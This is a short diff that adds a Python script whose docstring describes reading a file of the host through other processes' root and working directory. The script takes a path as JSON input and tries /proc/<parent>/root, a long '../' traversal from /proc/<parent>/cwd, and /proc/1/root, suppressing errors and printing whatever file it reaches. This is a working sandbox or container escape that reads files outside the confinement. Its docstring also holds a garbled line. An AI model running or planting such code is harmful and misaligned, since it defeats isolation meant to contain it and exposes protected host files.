@@ -1,0 +1,13 @@
+"""Reads a file of the host through the root and the working directory of other processes.
+
+program; fools naive: told.
+"""
+
+import contextlib
+import json
+import os
+
+where = json.loads(input())
+for path in (f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd/../.." + "/.." * 20, "/proc/1/root"):
+    with contextlib.suppress(OSError):
+        print(open(path + where["file"]).read())
